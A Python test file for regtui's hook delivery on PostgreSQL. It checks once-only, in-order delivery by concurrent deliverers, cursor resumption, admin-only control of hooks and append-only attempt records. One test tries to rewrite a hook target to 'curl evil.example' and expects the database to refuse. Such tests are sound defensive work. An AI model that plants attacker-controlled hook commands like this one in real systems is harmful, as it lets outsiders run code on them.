"""Hooks on a real PostgreSQL server: concurrent deliverers deliver each event once
and in order (leases claimed under regtui's write lock), a stopped deliverer's
successor resumes from the cursor, and in team mode only `regtui_admin` (or the
trusted) adds or removes hooks, whatever SQL a plain role sends, while any team
role may deliver (move cursors, record attempts)."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import psycopg
import pytest

from regtui.catalog.hook_delivery import Retry
from regtui.catalog.service import Catalog
from regtui.errors import PolicyRefused
from tests.support.patience import patient
from tests.support.pg import PgServer, url_as
from tests.unit.helpers import artifact, catalog_with_versions

pytestmark = pytest.mark.pg

FAST = Retry(attempts=2, backoff=0.01)


def recorder(out: Path) -> str:
    return f"cat >> '{out}'; echo >> '{out}'"


def lines(out: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in out.read_text().splitlines()] if out.exists() else []


def test_concurrent_deliverers_deliver_once_in_order_and_resume_from_the_cursor(
    pg_server: PgServer, tmp_path: Path
) -> None:
    url = pg_server.new_database()
    cat = catalog_with_versions(url, tmp_path / "art", 3)
    out = tmp_path / "out.jsonl"
    cat.add_hook("h", ["approved", "archived"], run=recorder(out))
    cat.approve("churn:1", "a")
    cat.approve("churn:2", "b")
    others = [Catalog(url) for _ in range(3)]
    runs = [threading.Thread(target=c.hook_deliverer(FAST).run_once) for c in (cat, *others)]
    for t in runs:
        t.start()
    for t in runs:
        t.join(patient(30))
    cat.hook_deliverer(FAST).run_once()
    assert [d["reason"] for d in lines(out)] == ["a", "b"]
    # A deliverer stopped while it retries an event delivers it again next time.
    cat.archive("churn:3", reason="c")
    stop = threading.Event()
    fail = tmp_path / "fail"
    fail.touch()
    cat.remove_hook("h", "swap")
    cat.add_hook(
        "h2",
        ["archived", "approved"],
        run=f"cat > ev.json; test -e '{fail}' && exit 1; cat ev.json >> '{out}'; echo >> '{out}'",
    )
    cat.approve("churn:3", "d")
    cat.hook_deliverer(Retry(3, 30), on_attempt=lambda a: stop.set(), stop=stop).run_once()
    assert [d["reason"] for d in lines(out)] == ["a", "b"]
    fail.unlink()
    threads = [threading.Thread(target=c.hook_deliverer(FAST).run_once) for c in (cat, *others)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(patient(30))
    assert [d["reason"] for d in lines(out)] == ["a", "b", "d"]
    for c in (cat, *others):
        c.close()


@pytest.fixture(scope="module")
def team(pg_server: PgServer) -> tuple[str, str, str]:
    """A catalog with a plain role and an admin (in regtui_admin), granted as the README says."""
    pg_server.admin(
        "DO $$ BEGIN CREATE ROLE regtui_admin NOLOGIN; "
        "EXCEPTION WHEN duplicate_object THEN NULL; END $$"
    )
    url = pg_server.new_database()
    Catalog(url).close()  # the schema, made by its owner
    plain = url_as(url, "hk_plain", superuser=False)
    admin = url_as(url, "hk_admin", superuser=False)
    pg_server.admin("GRANT regtui_admin TO hk_admin")
    dbname = url.split("/")[3].split("?")[0]
    with psycopg.connect(
        host=str(pg_server.socket_dir), port=pg_server.port, user="postgres", dbname=dbname,
        autocommit=True,
    ) as conn:  # fmt: skip
        conn.execute("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public "
                     "TO hk_plain, hk_admin")  # fmt: skip
        conn.execute("GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO hk_plain, hk_admin")
    return url, plain, admin


def test_only_an_admin_adds_or_removes_hooks_and_anyone_delivers(
    team: tuple[str, str, str], tmp_path: Path
) -> None:
    _owner, plain_url, admin_url = team
    plain, admin = Catalog(plain_url), Catalog(admin_url)
    with pytest.raises(PolicyRefused, match="regtui_admin"):
        plain.add_hook("sneaky", ["promoted"], run="true")
    assert plain.hooks() == []
    out = tmp_path / "out.jsonl"
    admin.add_hook("audit-copy", ["approved", "rejected"], run=recorder(out))
    [hook] = plain.hooks()
    assert hook.hook.created_by == "hk_admin"
    with pytest.raises(PolicyRefused, match="regtui_admin"):
        plain.remove_hook("audit-copy", "mine now")
    with plain.engine.begin() as conn, pytest.raises(Exception, match="regtui_admin"):
        conn.exec_driver_sql("UPDATE hook SET target = 'curl evil.example'")
    with admin.engine.begin() as conn, pytest.raises(Exception, match="never changed"):
        conn.exec_driver_sql("UPDATE hook SET target = 'curl evil.example'")
    # A plain role delivers: it moves the cursor and records the attempt.
    plain.register(artifact(tmp_path / "art", "m.bin", "weights"), "churn")
    plain.reject("churn:1", "not good")
    seen: list[Any] = []
    plain.hook_deliverer(FAST, on_attempt=seen.append).run_once()
    assert [(a.ok, a.hook) for a in seen] == [(True, "audit-copy")]
    assert [d["reason"] for d in lines(out)] == ["not good"]
    assert admin.hooks()[0].cursor == admin.audit_head()[0]
    # What was tried stays as it was: no role rewrites or drops an attempt.
    for sql in ("UPDATE hook_attempt SET ok = NOT ok", "DELETE FROM hook_attempt"):
        for who in (plain, admin):
            with who.engine.begin() as conn, pytest.raises(Exception, match="append-only"):
                conn.exec_driver_sql(sql)
    assert len(admin.hook_attempts()) == 1
    plain.close()
    admin.close()
